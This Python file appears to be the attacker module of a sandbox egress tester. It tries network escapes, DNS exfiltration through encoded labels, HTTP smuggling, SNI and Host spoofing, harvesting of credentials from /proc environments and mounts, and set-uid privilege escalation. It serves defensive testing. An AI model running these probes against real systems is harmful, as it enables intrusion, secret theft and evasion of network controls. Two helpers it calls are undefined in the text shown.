"""The attacker of `policykit probe`, started in place of the agent with exactly its rights. Says what it tried and what it saw;
whether anything got out is judged from outside, by what arrived there."""
import ctypes
import errno
import glob
import json
import os
import signal
import socket
import ssl
import struct
import sys
import threading
import time

PLAN = json.load(open("/probe/plan.json"))
LIBC = ctypes.CDLL(None, use_errno=True)
ATTACKS = []
FLOWS = []
SHORT = 0.7
PUBLIC = ["1.1.1.1", "8.8.8.8", "45.33.32.156", "104.16.0.1"]
PRIVATE = ["10.0.0.1", "10.255.255.1", "172.16.0.1", "172.31.0.1", "192.168.0.1", "192.168.1.1", "100.64.0.1"]
METADATA = ["169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192"]
FOREIGN = PLAN["foreign"]


def say(**line):
    # gVisor takes a part of a long line only, and Python's own streams would lose the rest.
    data = (json.dumps(line) + "\n").encode()
    while data:
        data = data[os.write(1, data):]


def attack(number, group, title, applies=True):
    def add(function):
        ATTACKS.append((number, group, title, function, applies))
        return function
    return add


def parallel(function, items):
    answers = []
    threads = [threading.Thread(target=lambda i=i: answers.append((i, function(i))), daemon=True) for i in items]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(10)
    return answers


def tcp(address, port, data=None, timeout=SHORT, family=socket.AF_INET):
    """What a connection answers: None when there is none, else the first bytes."""
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(timeout)
            s.connect((address, port))
            if data:
                s.sendall(data)
            try:
                return s.recv(4096)
            except OSError:
                return b""
    except OSError:
        return None


def udp(address, port, data=b"probe", family=socket.AF_INET):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.settimeout(SHORT)
            s.sendto(data, (address, port))
            return s.recv(4096)
    except OSError:
        return None


def client(alpn=None):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(alpn)
    return context


def hello(name):
    """The bytes of a TLS hello with that server name."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    stream = client().wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        stream.do_handshake()
    except ssl.SSLError:
        pass
    return outgoing.read()


def tls(address, port, name, data, timeout=4, alpn=None):
    """What a request over TLS answers; None when there was no TLS."""
    try:
        with socket.create_connection((address, port), timeout) as s:
            with client(alpn).wrap_socket(s, server_hostname=name) as stream:
                stream.sendall(data)
                answer = b""
                stream.settimeout(1.5)
                try:
                    while len(answer) < 65536:
                        more = stream.recv(65536)
                        if not more:
                            break
                        answer += more
                        if b"hello from outside" in answer:
                            break
                except OSError:
                    pass
                return answer
    except (OSError, ValueError):
        return None


def request(host, path="/", method="GET", more=""):
    return ("%s %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (method, path, host, more)).encode("latin1")


def query(name, kind=1, klass=1, flags=0x0100):
    labels = b"".join(bytes([len(l)]) + l.encode("latin1") for l in name.split(".") if l) + b"\0"
    return struct.pack("!HHHHHH", 4711, flags, 1, 0, 0, 0) + labels + struct.pack("!HH", kind, klass)


def resolves(server, name, kind=1, klass=1):
    answer = udp(server, 53, query(name, kind, klass))
    return None if answer is None else struct.unpack("!H", answer[6:8])[0]


def refused(number):
    return number in (errno.EPERM, errno.EACCES)


TLS = PLAN["tls"]
INSPECTED = [t for t in TLS if t["inspect"]]
PASSED = [t for t in TLS if not t["inspect"]]
HTTP = PLAN["http"]
NETWORKS = PLAN["networks"]
GATEWAY = PLAN["gateway"]
PORTS = sorted({t["port"] for t in TLS}) or [443]
GATED = GATEWAY is not None


def everywhere(ports):
    return parallel(lambda a: tcp(a[0], a[1], b"GET / HTTP/1.0\r\n\r\n"), [(a, p) for a in PUBLIC for p in ports]) and None


# ------------------------------------------------------------------------------------------------ addresses
@attack("A01", "addresses", "tcp 443 by address")
def _():
    everywhere([443])


@attack("A02", "addresses", "tcp 80 by address")
def _():
    everywhere([80])


@attack("A03", "addresses", "other tcp ports by address")
def _():
    everywhere([22, 25, 8080, 8443])


@attack("A04", "addresses", "the real addresses of allowed names", bool(PLAN["real"]))
def _():
    parallel(lambda a: tcp(a[0], a[1], hello(a[2])), [(r["address"], p, r["name"]) for r in PLAN["real"] for p in (80, 443, 8443)])


@attack("A05", "addresses", "addresses written as decimal, hexadecimal, octal and short")
def _():
    def dial(text):
        for info in socket.getaddrinfo(text, 443, socket.AF_INET, socket.SOCK_STREAM):
            tcp(info[4][0], 443)
    parallel(lambda t: safely(dial, t), ["134744072", "0x08080808", "010.010.010.010", "8.526344", "0x8.8.0x808"])


@attack("A06", "addresses", "IPv4 addresses mapped into IPv6")
def _():
    parallel(lambda a: tcp("::ffff:" + a, 443, family=socket.AF_INET6), PUBLIC + METADATA[:1])


@attack("A07", "addresses", "IPv6 addresses, global and translated")
def _():
    parallel(lambda a: tcp(a, 443, family=socket.AF_INET6), ["2606:4700:4700::1111", "64:ff9b::808:808", "2002:808:808::1", "fd00:ec2::254"])


@attack("A08", "addresses", "IPv6 neighbours and multicast")
def _():
    for address in ("ff02::1", "fe80::1"):
        udp(address, 53, family=socket.AF_INET6)
    for line in readable("/proc/net/if_inet6").decode().splitlines():
        if line.split()[-1] != "lo":
            yield "an interface has an IPv6 address"


@attack("A09", "addresses", "metadata endpoints by address")
def _():
    got = parallel(lambda a: tcp(a[0], a[1], b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n"), [(a, p) for a in METADATA for p in (80, 443)])
    return ["%s:%d answered" % key for key, answer in got if answer is not None]


@attack("A10", "addresses", "private ranges behind the gateway")
def _():
    parallel(lambda a: tcp(a[0], a[1]), [(a, p) for a in PRIVATE + PLAN["outside"] for p in (22, 80, 443)])


@attack("A11", "addresses", "listeners of the host")
def _():
    host = json.load(open("/host/listens.json"))
    for key, answer in parallel(lambda a: tcp(a, host["port"]), host["addresses"]):
        if answer is not None:
            yield "the host answers on %s" % key


@attack("A12", "addresses", "ports of the other containers")
def _():
    # All at once: a part that drops would else take a while for each port.
    ports = list(range(1, 1025)) + [1936, 2375, 2376, 3128, 5432, 6443, 8000, 8080, 8404, 8443, 8953, 9000, 10250]
    for part in PLAN["neighbours"]:
        dialling = []
        for port in ports:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((part, port))
            dialling.append((port, s))
        time.sleep(1)
        for port, s in dialling:
            try:
                s.getpeername()
                if [part, port] not in PLAN["open"]:
                    yield "%s:%d is open" % (part, port)
            except OSError:
                pass
            s.close()


@attack("A13", "addresses", "another port of an allowed network", bool(NETWORKS))
def _():
    parallel(lambda a: tcp(a[0], a[1]), [(n["address"], p) for n in NETWORKS for p in (22, 443, n["port"] + 1, max(n["port"] - 1, 1))])


@attack("A14", "addresses", "the allowed port next to an allowed network", bool(NETWORKS))
def _():
    parallel(lambda a: tcp(a[0], a[1]), [(a, n["port"]) for n in NETWORKS for a in n["beside"]])


@attack("A15", "addresses", "the other transport on an allowed network", bool(NETWORKS))
def _():
    for n in NETWORKS:
        if n["transport"] == "tcp":
            udp(n["address"], n["port"])
        else:
            tcp(n["address"], n["port"])


@attack("A16", "addresses", "broadcast and multicast")
def _():
    for address in ("255.255.255.255", "224.0.0.1", "239.255.255.250", PLAN["prefix"] + ".255"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            safely(lambda: s.sendto(b"probe", (address, 1900)))


@attack("A17", "addresses", "addresses of other parts as one's own")
def _():
    for part in PLAN["neighbours"]:
        with socket.socket() as s:
            try:
                s.bind((part, 0))
                yield "%s can be taken" % part
            except OSError:
                pass


@attack("A18", "addresses", "networks of other runs and of the engine")
def _():
    parallel(lambda a: tcp(a[0], a[1]), [("10.%d.%d.%d" % (240 + i % 16, i * 7 % 256, h), p) for i in range(8) for h in (1, 2, 10) for p in (53, 443)] + [("172.17.0.%d" % h, p) for h in (1, 2) for p in (22, 80, 2375)])


# ------------------------------------------------------------------------------------------------ protocols
@attack("P01", "protocols", "udp to public addresses")
def _():
    parallel(lambda a: udp(a[0], a[1]), [(a, p) for a in PUBLIC for p in (1194, 3478, 51820)])


@attack("P02", "protocols", "udp 443 (QUIC)")
def _():
    parallel(lambda a: udp(a, 443, b"\xc0\0\0\0\1" + b"x" * 1200), PUBLIC + ([GATEWAY] if GATED else []))


@attack("P03", "protocols", "udp 123 (NTP)")
def _():
    parallel(lambda a: udp(a, 123, b"\x1b" + b"\0" * 47), PUBLIC)


@attack("P04", "protocols", "ICMP by a ping socket")
def _():
    for address in PUBLIC:
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
                s.settimeout(0.3)
                s.sendto(b"\x08\0\xf7\xff\0\0\0\0", (address, 0))
                if s.recv(512)[:1] == b"\0":
                    yield "%s answered a ping" % address
        except OSError:
            pass


@attack("P05", "protocols", "raw sockets")
def _():
    for protocol in (1, 6, 47, 255):
        try:
            socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol).close()
            yield "a raw socket for protocol %d" % protocol
        except OSError:
            pass


@attack("P06", "protocols", "packet sockets")
def _():
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        try:
            socket.socket(socket.AF_PACKET, kind, socket.htons(3)).close()
            yield "a packet socket"
        except OSError:
            pass


def stream_of(number, kind=socket.SOCK_STREAM):
    def dial(address):
        with socket.socket(socket.AF_INET, kind, number) as s:
            s.settimeout(SHORT)
            s.connect((address, 443))
            s.send(b"probe")
    parallel(lambda a: safely(dial, a), PUBLIC[:2] + [n["address"] for n in NETWORKS])


@attack("P07", "protocols", "SCTP")
def _():
    stream_of(132)


@attack("P08", "protocols", "UDP-Lite")
def _():
    stream_of(136, socket.SOCK_DGRAM)


@attack("P09", "protocols", "DCCP")
def _():
    safely(stream_of, 33, 6)


@attack("P10", "protocols", "multipath TCP")
def _():
    stream_of(262)


@attack("P11", "protocols", "source routing")
def _():
    for hop in PLAN["neighbours"] + ([] if not NETWORKS else [NETWORKS[0]["address"]]):
        with socket.socket() as s:
            s.settimeout(SHORT)
            safely(lambda: (s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton(hop) + b"\0"), s.connect(("8.8.8.8", 443))))


@attack("P12", "protocols", "chosen source ports")
def _():
    for source in (53, 123, 443, 5432, 67):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with socket.socket(socket.AF_INET, kind) as s:
                s.settimeout(0.4)
                safely(lambda: (s.bind(("", source)), s.connect(("8.8.8.8", 53)), s.send(b"probe")))


@attack("P13", "protocols", "data in the opening of a connection (TCP fast open)")
def _():
    for address in PUBLIC[:2]:
        with socket.socket() as s:
            s.settimeout(SHORT)
            safely(lambda: s.sendto(b"probe", 0x20000000, (address, 443)))


@attack("P14", "protocols", "sockets of a hypervisor (vsock)")
def _():
    for cid in (1, 2):
        try:
            with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
                s.settimeout(SHORT)
                s.connect((cid, 1024))
                yield "vsock %d answered" % cid
        except (OSError, AttributeError):
            pass


@attack("P15", "protocols", "routes and addresses of one's own")
def _():
    message = struct.pack("=IHHII", 28 + 16, 24, 0x0605, 1, 0) + struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HH4s", 8, 5, socket.inet_aton(PLAN["neighbours"][0] if PLAN["neighbours"] else "127.0.0.1")) + struct.pack("=HHI", 8, 4, 2)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.bind((0, 0))
        s.send(message)
        answer = s.recv(4096)
        if len(answer) >= 20 and struct.unpack("=H", answer[4:6])[0] == 2 and struct.unpack("=i", answer[16:20])[0] == 0:
            yield "a default route can be set"


# ------------------------------------------------------------------------------------------------ names
SERVERS = [PLAN["dns"]] if PLAN["dns"] else []


@attack("D01", "names", "data in labels of foreign names, by the resolver", not PLAN["anyName"])
def _():
    for i in range(5):
        safely(lambda: socket.getaddrinfo("%s.%d.%s" % ("6c65616b" * 6, i, FOREIGN), 443))


@attack("D02", "names", "other record types of foreign names", bool(SERVERS) and not PLAN["anyName"])
def _():
    for kind in (28, 16, 10, 15, 33, 5, 65, 257):
        answers = resolves(SERVERS[0], "type%d.%s" % (kind, FOREIGN), kind)
        if answers:
            yield "type %d of a foreign name was answered" % kind


@attack("D03", "names", "the engine's own resolver at 127.0.0.11")
def _():
    for name in (FOREIGN, "host.docker.internal", "gateway", "router"):
        udp("127.0.0.11", 53, query(name))
        tcp("127.0.0.11", 53, struct.pack("!H", len(query(name))) + query(name))


@attack("D04", "names", "public resolvers, udp 53")
def _():
    parallel(lambda a: udp(a, 53, query(FOREIGN)), ["1.1.1.1", "8.8.8.8", "9.9.9.9", "208.67.222.222"])


@attack("D05", "names", "public resolvers, tcp 53")
def _():
    parallel(lambda a: tcp(a, 53, struct.pack("!H", len(query(FOREIGN))) + query(FOREIGN)), ["1.1.1.1", "8.8.8.8", "9.9.9.9"])


@attack("D06", "names", "DNS over TLS, tcp and udp 853")
def _():
    parallel(lambda a: (tls(a, 853, "dns.google", b"x", SHORT), udp(a, 853)), ["1.1.1.1", "8.8.8.8"])


@attack("D07", "names", "DNS over HTTPS by address")
def _():
    parallel(lambda a: tls(a, 443, "dns.google", request("dns.google", "/dns-query?dns=AAAB"), SHORT), ["1.1.1.1", "8.8.8.8"])


@attack("D08", "names", "zone transfer, any, chaos and reverse look-ups", bool(SERVERS))
def _():
    server = SERVERS[0]
    for kind, klass, name in ((252, 1, "."), (255, 1, FOREIGN), (16, 3, "version.bind"), (12, 1, "8.8.8.8.in-addr.arpa"), (12, 1, "2.0.0.10.in-addr.arpa")):
        answers = resolves(server, name, kind, klass)
        if answers and not (PLAN["anyName"] and name == FOREIGN):
            yield "%s type %d was answered" % (name, kind)


@attack("D09", "names", "allowed names that resolve to private, loopback and metadata addresses", bool(PLAN["rebind"]))
def _():
    def dial(r):
        if r["kind"] == "http":
            return tcp(GATEWAY, r["port"], request(r["name"], "/rebind"), 3)
        return tls(GATEWAY, r["port"], r["name"], request(r["name"], "/rebind"), 3)
    for r in PLAN["rebind"]:
        answer = dial(r)
        if answer and b"hello from outside" in answer:
            yield "%s was answered" % r["name"]


@attack("D10", "names", "malformed questions", bool(SERVERS))
def _():
    server = SERVERS[0]
    for data in (b"", b"\0" * 11, query(FOREIGN)[:15], struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1", struct.pack("!HHHHHH", 1, 0x0100, 9, 9, 9, 9) + b"\x3f" + b"a" * 63, query("a" * 63 + "." + FOREIGN)):
        safely(lambda: udp(server, 53, data))


@attack("D11", "names", "updates and notifications sent to the name server", bool(SERVERS))
def _():
    for flags in (0x2800, 0x2000):
        udp(SERVERS[0], 53, query(FOREIGN, 6, 1, flags))


# ------------------------------------------------------------------------------------------------ TLS and HTTP
@attack("T01", "requests", "a foreign server name", GATED and not PLAN["anyName"])
def _():
    for port in PORTS:
        tls(GATEWAY, port, FOREIGN, request(FOREIGN))


@attack("T02", "requests", "no server name", GATED)
def _():
    for port in PORTS:
        tls(GATEWAY, port, None, request(FOREIGN))


@attack("T03", "requests", "an address as the server name", GATED)
def _():
    for port in PORTS:
        for name in ("8.8.8.8", "169.254.169.254", "127.0.0.1"):
            data = hello("8x8x8x8").replace(b"8x8x8x8", name.encode()[:7].ljust(7, b"1"))
            tcp(GATEWAY, port, data, 2)


@attack("T04", "requests", "server names that look like allowed ones", GATED and bool(TLS) and not PLAN["anyName"])
def _():
    for t in TLS[:3]:
        name = t["name"]
        for other in (name + "." + FOREIGN, "x" + name, name + "x", name.replace(".", "", 1), name.replace(".", "-"), name.split(".", 1)[1], "-" + name, name + ".", "." + name, name.replace(".", ".."), name + "%00." + FOREIGN,
                      name + ":443", name + "/", "xn--" + name, name.replace("a", "\u0430", 1), name + " "):
            if not any(other.lower() == a["name"] for a in TLS):
                safely(lambda: tls(GATEWAY, t["port"], other, request(other), 2))


@attack("T05", "requests", "a NUL inside the server name", GATED and bool(TLS))
def _():
    for t in TLS[:2]:
        marker = "q" * 8 + "." + FOREIGN
        forged = (t["name"] + "\0").encode()
        data = hello(marker + "." + "z" * max(0, len(forged) - len(marker) - 1)) if len(forged) > len(marker) + 1 else hello(marker)
        start = data.find(marker.encode())
        if start > 0 and len(forged) <= len(marker):
            tcp(GATEWAY, t["port"], data[:start] + forged + data[start + len(forged):], 2)


@attack("T06", "requests", "an allowed server name at an address of one's choice", bool(TLS))
def _():
    parallel(lambda a: tls(a, 443, TLS[0]["name"], request(TLS[0]["name"]), SHORT), PUBLIC)


@attack("T07", "requests", "another Host inside a decrypted connection (fronting)", bool(INSPECTED))
def _():
    for t in INSPECTED:
        for host in (FOREIGN, "127.0.0.1", t["name"] + "." + FOREIGN, t["name"] + ":8443", t["name"] + ".", ""):
            tls(GATEWAY, t["port"], t["name"], request(host, "/fronting"))


@attack("T08", "requests", "the Host of another credential's server", len(INSPECTED) > 1)
def _():
    for t in INSPECTED:
        for other in INSPECTED:
            if other["name"] != t["name"]:
                tls(GATEWAY, t["port"], t["name"], request(other["name"], "/confusion"))


@attack("T09", "requests", "the Host of a credential's server on a connection that is passed through", bool(INSPECTED) and bool(PASSED))
def _():
    for t in INSPECTED:
        tls(GATEWAY, PASSED[0]["port"], PASSED[0]["name"], request(t["name"], "/confusion"))


@attack("T10", "requests", "an absolute URI to another server", bool(INSPECTED) or bool(HTTP))
def _():
    for t in INSPECTED:
        tls(GATEWAY, t["port"], t["name"], ("GET https://%s/absolute HTTP/1.1\r\nHost: %s\r\n\r\n" % (FOREIGN, t["name"])).encode())
    for h in HTTP:
        tcp(GATEWAY, h["port"], ("GET http://%s/absolute HTTP/1.1\r\nHost: %s\r\n\r\n" % (FOREIGN, h["name"])).encode(), 2)


@attack("T11", "requests", "two Host headers", bool(INSPECTED) or bool(HTTP))
def _():
    for t in INSPECTED:
        for pair in ((t["name"], FOREIGN), (FOREIGN, t["name"])):
            tls(GATEWAY, t["port"], t["name"], ("GET /double HTTP/1.1\r\nHost: %s\r\nHost: %s\r\n\r\n" % pair).encode())
    for h in HTTP:
        for pair in ((h["name"], FOREIGN), (FOREIGN, h["name"])):
            tcp(GATEWAY, h["port"], ("GET /double HTTP/1.1\r\nHost: %s\r\nHost: %s\r\n\r\n" % pair).encode(), 2)


@attack("T12", "requests", "user information before the host", bool(INSPECTED) or bool(HTTP))
def _():
    for t in INSPECTED:
        tls(GATEWAY, t["port"], t["name"], ("GET https://%s@%s/user HTTP/1.1\r\nHost: %s@%s\r\n\r\n" % (t["name"], FOREIGN, t["name"], FOREIGN)).encode())
    for h in HTTP:
        tcp(GATEWAY, h["port"], ("GET http://%s@%s/user HTTP/1.1\r\nHost: %s@%s\r\n\r\n" % (h["name"], FOREIGN, h["name"], FOREIGN)).encode(), 2)


@attack("T13", "requests", "CONNECT inside a decrypted connection", bool(INSPECTED))
def _():
    for t in INSPECTED:
        for to in (FOREIGN + ":443", t["name"] + ":443"):
            tls(GATEWAY, t["port"], t["name"], ("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (to, to)).encode() + hello(FOREIGN))


@attack("T14", "requests", "TRACE, which echoes what the gateway adds", bool(INSPECTED))
def _():
    for t in INSPECTED:
        answer = tls(GATEWAY, t["port"], t["name"], request(t["name"], "/trace", "TRACE"))
        yield from echoed(answer)


def smuggle(title, build):
    @attack(title[0], "requests", title[1], bool(INSPECTED) or bool(HTTP))
    def _():
        for t in INSPECTED:
            inner = "GET /smuggled HTTP/1.1\r\nHost: %s\r\nX-Smuggled: 1\r\n\r\n" % FOREIGN
            tls(GATEWAY, t["port"], t["name"], build(t["name"], inner).encode("latin1"))
        for h in HTTP:
            inner = "GET /smuggled HTTP/1.1\r\nHost: %s\r\nX-Smuggled: 1\r\n\r\n" % FOREIGN
            tcp(GATEWAY, h["port"], build(h["name"], inner).encode("latin1"), 2)


smuggle(("T15", "smuggling: length before chunks"), lambda host, inner: "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s" % (host, 5 + len(inner), inner))
smuggle(("T16", "smuggling: chunks before length"), lambda host, inner: "POST / HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (host, len(inner), inner))
smuggle(("T17", "smuggling: two lengths"), lambda host, inner: "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n%s" % (host, len(inner), inner))
smuggle(("T18", "smuggling: odd spellings of chunked"), lambda host, inner: "POST / HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding : chunked\r\nTransfer-Encoding: xchunked\r\nContent-Length: %d\r\n\r\n0\r\n\r\n%s" % (host, 5 + len(inner), inner))
smuggle(("T19", "smuggling: bare line feeds and folded headers"), lambda host, inner: "GET / HTTP/1.1\nHost: %s\nX: a\n Host: %s\n\n%s" % (host, FOREIGN, inner))


@attack("T20", "requests", "another authority in HTTP/2", bool(INSPECTED))
def _():
    def literal(name, value):
        return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    for t in INSPECTED:
        for authority, host in ((FOREIGN, None), (t["name"], FOREIGN)):
            block = literal(":method", "GET") + literal(":scheme", "https") + literal(":path", "/h2") + literal(":authority", authority) + (literal("host", host) if host else b"")
            frame = struct.pack("!I", len(block))[1:] + b"\x01\x05" + struct.pack("!I", 1) + block
            tls(GATEWAY, t["port"], t["name"], b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0" + frame, alpn=["h2"])


@attack("T21", "requests", "plain HTTP on a port for TLS", GATED)
def _():
    for port in PORTS:
        tcp(GATEWAY, port, request(FOREIGN, "/plain"), 2)


@attack("T22", "requests", "a proxy's CONNECT on a port for TLS", GATED)
def _():
    for port in PORTS:
        tcp(GATEWAY, port, ("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (FOREIGN, FOREIGN)).encode(), 2)


@attack("T23", "requests", "SOCKS on a port for TLS", GATED)
def _():
    for port in PORTS:
        tcp(GATEWAY, port, b"\x05\x01\0\x05\x01\0\x03" + bytes([len(FOREIGN)]) + FOREIGN.encode() + b"\x01\xbb", 2)
        tcp(GATEWAY, port, b"\x04\x01\x01\xbb\x08\x08\x08\x08\0", 2)


@attack("T24", "requests", "PROXY protocol before the hello", GATED)
def _():
    for port in PORTS:
        tcp(GATEWAY, port, b"PROXY TCP4 8.8.8.8 8.8.4.4 1 443\r\n" + hello(FOREIGN), 2)


def pieces(data, size):
    for port in PORTS:
        with socket.socket() as s:
            s.settimeout(3)
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            try:
                s.connect((GATEWAY, port))
                for at in range(0, len(data), size):
                    s.sendall(data[at:at + size])
                    time.sleep(0.01)
                s.recv(1024)
            except OSError:
                pass


@attack("T25", "requests", "a foreign hello in many segments", GATED and not PLAN["anyName"])
def _():
    pieces(hello(FOREIGN), 40)


@attack("T26", "requests", "a foreign hello in many records", GATED and not PLAN["anyName"])
def _():
    body = hello(FOREIGN)[5:]
    pieces(b"".join(b"\x16\x03\x01" + struct.pack("!H", len(body[i:i + 30])) + body[i:i + 30] for i in range(0, len(body), 30)), 4096)


@attack("T27", "requests", "a foreign hello after an allowed one", GATED and bool(TLS))
def _():
    for t in TLS[:2]:
        tcp(GATEWAY, t["port"], hello(t["name"]) + hello(FOREIGN), 2)
        tcp(GATEWAY, t["port"], hello(FOREIGN) + hello(t["name"]), 2)


@attack("T28", "requests", "a connection that says nothing", GATED)
def _():
    with socket.socket() as s:
        s.settimeout(9)
        try:
            s.connect((GATEWAY, PORTS[0]))
            s.recv(1)
        except socket.timeout:
            yield "an idle connection is kept for more than 9 s"
        except OSError:
            pass


@attack("T29", "requests", "an upgrade to WebSocket under another Host", bool(INSPECTED))
def _():
    for t in INSPECTED:
        tls(GATEWAY, t["port"], t["name"], request(FOREIGN, "/upgrade", more="Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eA==\r\n"))


@attack("T30", "requests", "headers that hide or copy what the gateway adds", bool(INSPECTED))
def _():
    for t in INSPECTED:
        more = "Connection: close, authorization, x-api-key\r\nAuthorization: mine\r\nX-Api-Key: mine\r\nX-Forwarded-Host: %s\r\nX-Original-URL: /admin\r\n" % FOREIGN
        yield from echoed(tls(GATEWAY, t["port"], t["name"], request(t["name"], "/headers", more=more)))


@attack("T31", "requests", "a redirect to a foreign server", bool(TLS) or bool(HTTP))
def _():
    for t in TLS[:2]:
        answer = tls(GATEWAY, t["port"], t["name"], request(t["name"], "/policykit-redirect"))
        if answer and b"Location: " in answer:
            safely(lambda: socket.getaddrinfo(FOREIGN, 443))
            tls(GATEWAY, t["port"], FOREIGN, request(FOREIGN, "/redirected"))


def send(r, data):
    if r["kind"] == "http":
        tcp(GATEWAY, r["port"], data, 2)
    else:
        tls(GATEWAY, r["port"], r["name"], data)


@attack("T32", "requests", "methods and paths that no rule allows", bool(PLAN["requests"]))
def _():
    for r in PLAN["requests"]:
        for method, path in ((r["method"], "/policykit-forbidden"), ("DELETE", r["path"]), ("PURGE", r["path"]), (r["method"], r["path"] + "/../../policykit-forbidden"), (r["method"], r["path"] + "/%2e%2e/policykit-forbidden"),
                             (r["method"], r["path"] + "%2f..%2fpolicykit-forbidden"), (r["method"], r["path"] + "/..;/policykit-forbidden"), (r["method"], r["path"].upper()), (r["method"], r["path"].replace("/", "//", 1)),
                             (r["method"], r["path"] + "/%252e%252e/policykit-forbidden"), (r["method"], "/./policykit-forbidden"), (r["method"], r["path"] + "\\..\\policykit-forbidden"), (r["method"].lower(), r["path"])):
            send(r, request(r["name"], path, method))
        for header in ("X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: DELETE", "X-Original-URL: /policykit-forbidden", "X-Rewrite-URL: /policykit-forbidden"):
            send(r, request(r["name"], r["path"], r["method"], header + "\r\n"))


@attack("T33", "requests", "a foreign Host over plain HTTP", bool(HTTP) and not PLAN["anyName"])
def _():
    for h in HTTP:
        for host in (FOREIGN, h["name"] + "." + FOREIGN, "169.254.169.254", "", h["name"] + "\t" + FOREIGN):
            tcp(GATEWAY, h["port"], request(host, "/plain"), 2)
        tcp(GATEWAY, h["port"], b"GET / HTTP/1.0\r\n\r\n", 2)


@attack("T34", "requests", "names that a denial cuts out", GATED and bool(PLAN["denied"]))
def _():
    for port in PORTS:
        for name in PLAN["denied"]:
            for spelling in (name, name.upper(), name + "."):
                safely(lambda: tls(GATEWAY, port, spelling, request(name, "/denied")))


# ------------------------------------------------------------------------------------------------ container
def readable(path, limit=1 << 16):
    # Without waiting: a pipe would never answer.
    try:
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        return os.read(file, limit)
    except OSError:
        return b""
    finally:
        os.close(file)


@attack("C01", "container", "secrets in environments, arguments and mounts")
def _():
    found = [readable(p) for p in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + ["/proc/mounts", "/proc/self/mountinfo"]]
    for folder in ("/run", "/var/run", "/etc/policykit", "/tmp", "/root", "/home", "/workspace", os.getcwd()):
        for where, _, files in os.walk(folder):
            for name in files[:200]:
                if os.path.realpath(os.path.join(where, name)) not in [os.path.realpath(p) for p in PLAN["ownSecrets"]]:
                    found.append(readable(os.path.join(where, name)))
    # Variables that the policy hands to the workload are left out; the judge looks for the values of all others in what is said here.
    text = b"\n".join(found).decode("latin1")
    for name in PLAN["ownVariables"]:
        text = text.replace(os.environ.get(name, "\0never"), "[own]")
    say(kind="loot", text=text[:200000])


@attack("C02", "container", "keys of the certificate authority")
def _():
    for folder in ("/etc", "/run", "/var", "/tmp", "/out"):
        for where, _, files in os.walk(folder):
            for name in files:
                if b"PRIVATE KEY" in readable(os.path.join(where, name)) and not where.startswith("/etc/ssl/private"):
                    yield "a private key at %s" % os.path.join(where, name)


@attack("C03", "container", "capabilities")
def _():
    status = dict(line.split(":", 1) for line in readable("/proc/self/status").decode().splitlines() if ":" in line)
    for key in ("CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb"):
        extra = int(status.get(key, "0"), 16) & ~PLAN["capabilities"]
        if extra:
            yield "%s holds %x" % (key, extra)
    if LIBC.prctl(39, 0, 0, 0, 0) != 1:
        yield "new privileges are possible"
    # The filter of a user-space kernel stands between it and the host, where nothing inside sees it.
    if status.get("Seccomp", "0").strip() != "2" and not PLAN["userKernel"]:
        yield "no system call filter"
    if int(status["Uid"].split()[1]) != PLAN["uid"]:
        yield "another user than declared"


@attack("C04", "container", "becoming root by programs that are set-uid")
def _():
    for program in ("/bin/su", "/usr/bin/su", "/usr/bin/sudo", "/usr/bin/newuidmap", "/bin/mount", "/usr/bin/passwd"):
        if os.path.exists(program) and PLAN["uid"] != 0:
            pid = os.fork()
            if pid == 0:
                os.setsid()
                null = os.open("/dev/null", os.O_RDWR)
                os.dup2(null, 0)
                os.dup2(null, 1)
                os.dup2(null, 2)
                safely(lambda: os.execv(program, [program, "-n", "id"] if program.endswith("sudo") else [program, "-c", "id", "root"] if program.endswith("su") else [program]))
                os._exit(1)
            for _ in range(20):
                done, status = os.waitpid(pid, os.WNOHANG)
                if done:
                    if program.endswith(("su", "sudo")) and os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0:
                        yield "%s works" % program
                    break
